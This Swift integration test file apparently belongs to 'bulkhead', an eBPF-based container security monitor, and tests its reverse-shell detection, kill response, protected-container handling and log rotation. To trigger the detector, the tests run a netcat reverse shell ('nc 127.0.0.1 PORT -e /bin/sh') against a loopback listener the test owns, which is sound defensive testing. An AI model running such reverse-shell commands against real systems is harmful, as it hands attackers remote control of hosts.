import Foundation
import Parsing
import Sensor
import TestKit
import Testing

@testable import bulkhead

/// Whether the program can watch here at all.
enum KernelWatch {
  static let isPossible: Bool = {
    guard RealProgram.isBuilt, RealEngine.isPossible else { return false }
    do throws(SensorError) {
      _ = try KernelSensor()
      return true
    } catch {
      print("skipped: the kernel refuses the sensor: \(error)")
      return false
    }
  }()
}

/// The real program, a real engine, a real container in which a harmless shell on loopback begins.
@Suite(.serialized, .enabled(if: KernelWatch.isPossible)) struct WatchContainerTests {
  /// A listener on loopback that sends a command to whoever connects, and keeps the answer.
  final class Listener {
    let port: Int
    private let descriptor: Int32

    init() throws {
      let opened = socket(AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
      var address = sockaddr_in()
      address.sin_family = sa_family_t(AF_INET)
      address.sin_addr.s_addr = UInt32(0x7F00_0001).bigEndian
      var size = socklen_t(MemoryLayout<sockaddr_in>.size)
      let isBound = withUnsafeMutablePointer(to: &address) { pointer in
        pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) {
          bind(opened, $0, size) == 0 && getsockname(opened, $0, &size) == 0
        }
      }
      descriptor = opened
      port = Int(UInt16(bigEndian: address.sin_port))
      try #require(isBound && listen(descriptor, 1) == 0)
      var limit = timeval(tv_sec: 20, tv_usec: 0)
      setsockopt(descriptor, SOL_SOCKET, SO_RCVTIMEO, &limit, socklen_t(MemoryLayout<timeval>.size))
    }

    /// - Returns: what came back until the other end closed, or the time was over.
    func converse(sending command: String, seconds: Int = 20) -> String {
      let peer = accept(descriptor, nil, nil)
      guard peer >= 0 else { return "" }
      defer { close(peer) }
      var limit = timeval(tv_sec: seconds, tv_usec: 0)
      setsockopt(peer, SOL_SOCKET, SO_RCVTIMEO, &limit, socklen_t(MemoryLayout<timeval>.size))
      _ = command.utf8.withContiguousStorageIfAvailable {
        send(peer, $0.baseAddress, $0.count, Int32(MSG_NOSIGNAL))
      }
      var answer: [UInt8] = []
      var buffer = [UInt8](repeating: 0, count: 4096)
      while true {
        let count = recv(peer, &buffer, buffer.count, 0)
        guard count > 0 else { return String(decoding: answer, as: UTF8.self) }
        answer += buffer[..<count]
      }
    }

    deinit { close(descriptor) }
  }

  private let folder: TemporaryDirectory
  private let engine: RealEngine
  private let program: RealProgram

  init() throws {
    folder = try TemporaryDirectory()
    engine = try RealEngine()
    let root = try TemporaryDirectory()
    try FileManager.default.createDirectory(atPath: root.path + "/bin", withIntermediateDirectories: true)
    try Tool.run("cp", [Tool.find("busybox") ?? "/bin/busybox", root.path + "/bin/busybox"])
    for name in ["sh", "sleep", "nc"] {
      try FileManager.default.createSymbolicLink(atPath: root.path + "/bin/" + name, withDestinationPath: "busybox")
    }
    _ = try engine.image("watched:1", layers: [root.path])
    program = RealProgram(home: folder.path + "/home", ["DOCKER_HOST": "unix://" + engine.socket])
  }

  /// A watch that has said that it watches.
  private func watch(_ arguments: [String]) throws -> RealProgram.Running {
    let running = try program.start(["watch", "--duration", "120s"] + arguments)
    try #require(wait { running.errors.hasPrefix("watching") }, "\(running.errors)")
    return running
  }

  private func wait(seconds: Double = 20, for condition: () -> Bool) -> Bool {
    let end = Date().addingTimeInterval(seconds)
    while Date() < end {
      if condition() { return true }
      usleep(20_000)
    }
    return condition()
  }

  private func ended(_ running: RealProgram.Running) -> RealProgram.Outcome {
    running.process.interrupt()
    if !running.ends(within: 30_000) { running.kill() }
    return running.outcome()
  }

  /// Runs a shell on a connection in a container of this name.
  private func shell(_ name: String, to listener: Listener) throws {
    try engine.docker([
      "run", "-d", "--network", "host", "--name", name, "watched:1", "sh", "-c",
      "nc 127.0.0.1 \(listener.port) -e /bin/sh; sleep 99",
    ])
  }

  private func alerts(_ text: String, of name: String) -> [JSONValue] {
    text.split(separator: "\n").compactMap { try? JSONValue(parsing: Bytes(String($0))) }.filter {
      $0["rule"]?.string == "reverse-shell.stdio" && $0["subject"]?["name"]?.string == name
    }
  }

  @Test func aReverseShellIsToldWithEverything() throws {
    let recording = folder.path + "/kept.watch"
    let running = try watch(["--format", "json", "--record", recording, "--fail-on", "high"])
    let listener = try Listener()
    try shell("victim", to: listener)
    #expect(listener.converse(sending: "echo was$((1+1))here; exit\n").contains("was2here"))
    #expect(wait { !alerts(running.output, of: "victim").isEmpty }, "\(running.output)\n\(running.errors)")
    let outcome = ended(running)
    try engine.docker(["rm", "-f", "victim"])
    #expect(outcome.status == 1, "\(outcome.errors)")
    #expect(outcome.errors.contains("engine: \(engine.socket)") && outcome.errors.contains("none lost"))

    let alert = try #require(alerts(outcome.output, of: "victim").first)
    let detection = try #require(alert["detection"])
    #expect(alert["severity"]?.string == "critical" || alert["severity"]?.string == "high")
    #expect(detection["container"]?["image"]?.string == "watched:1")
    #expect(detection["container"]?["digest"]?.string?.hasPrefix("sha256:") == true)
    #expect(detection["network"]?["remote"]?.string == "127.0.0.1:\(listener.port)")
    let ancestors = detection["process"]?["ancestors"]?.elements ?? []
    #expect(ancestors.contains { $0["arguments"]?.elements.first?.string == "sh" }, "\(ancestors)")
    let took = (alert["at"]?.double ?? 99) - (detection["time"]?.double ?? 0)
    #expect(took >= 0 && took < 5, "\(took)")

    let again = try program.run("watch", "-q", "--replay", recording, "--format", "json")
    #expect(alerts(again.output, of: "victim").count == 1)
  }

  @Test func aShellIsKilledWhereThatIsAskedFor() throws {
    let running = try watch(["--respond", "kill=reverse-shell.*"])
    let listener = try Listener()
    try shell("victim", to: listener)
    // A shell that lives would sleep and answer; the connection of one that is killed ends.
    let answer = listener.converse(sending: "sleep 5; echo survived\n")
    #expect(!answer.contains("survived"))
    #expect(wait { running.output.contains("done     kill") }, "\(running.output)\n\(running.errors)")
    let outcome = ended(running)
    try engine.docker(["rm", "-f", "victim"])
    let trail = try String(contentsOfFile: folder.path + "/home/responses.ndjson", encoding: .utf8)
    #expect(trail.contains(#""response":"kill""#) && trail.contains(#""outcome":"done""#), "\(trail)")
    #expect(outcome.output.contains("victim (watched:1)"), "\(outcome.output)")
  }

  @Test func protectedContainersAreLeftAlone() throws {
    let running = try watch(["--respond", "kill=reverse-shell.*"])
    let listener = try Listener()
    try engine.docker([
      "run", "-d", "--network", "host", "--name", "precious", "-l", "bulkhead.protect=true", "watched:1", "sh", "-c",
      "nc 127.0.0.1 \(listener.port) -e /bin/sh; sleep 99",
    ])
    #expect(listener.converse(sending: "sleep 1; echo sur''vived; exit\n").contains("survived"))
    #expect(wait { running.output.contains("is protected") }, "\(running.output)\n\(running.errors)")
    _ = ended(running)
    try engine.docker(["rm", "-f", "precious"])
  }

  @Test func withoutEBPFItSaysWhatIsNotSeen() throws {
    let running = try watch(["--no-ebpf"])
    let outcome = ended(running)
    #expect(outcome.status == 2, "\(outcome.errors)")
    #expect(outcome.errors.contains("watching without eBPF") && outcome.errors.contains("not seen: "))
  }

  @Test func aRotatedFileIsLeftBehind() throws {
    let path = folder.path + "/alerts"
    let running = try watch(["--format", "json", "--output", path])
    try FileManager.default.moveItem(atPath: path, toPath: path + ".1")
    kill(running.process.processIdentifier, SIGHUP)
    #expect(wait { FileManager.default.fileExists(atPath: path) })
    let listener = try Listener()
    try shell("victim", to: listener)
    #expect(listener.converse(sending: "echo x; exit\n").contains("x"))
    func kept() -> String { (try? String(contentsOfFile: path, encoding: .utf8)) ?? "" }
    #expect(wait { !alerts(kept(), of: "victim").isEmpty }, "\(running.errors)")
    _ = ended(running)
    try engine.docker(["rm", "-f", "victim"])
    // Containers of other tests may have alerted before.
    #expect(alerts(try String(contentsOfFile: path + ".1", encoding: .utf8), of: "victim").isEmpty)
  }

  @Test func theDoctorExaminesThisHost() throws {
    let outcome = try program.run("doctor", "--format", "json")
    let answer = try JSONValue(parsing: Bytes(outcome.output))
    let checks = answer["checks"]?.elements ?? []
    func check(_ what: String) -> JSONValue? { checks.first { $0["what"]?.string == what } }
    #expect(check("tp_btf/sched_process_exec")?["works"]?.bool == true)
    #expect(check(engine.socket)?["works"]?.bool == true)
    #expect(check(folder.path + "/home")?["works"]?.bool == true)
    #expect(checks.allSatisfy { $0["shows"]?.string?.isEmpty == false })
    let isWhole = checks.allSatisfy { $0["works"]?.bool == true }
    #expect(outcome.status == (isWhole ? 0 : 2) && answer["complete"]?.bool == isWhole)

    let without = try program.run("doctor", "--engine", "/nonexistent.sock")
    #expect(without.status == 2 && without.output.contains("MISSING  /nonexistent.sock"), "\(without.output)")
  }
}
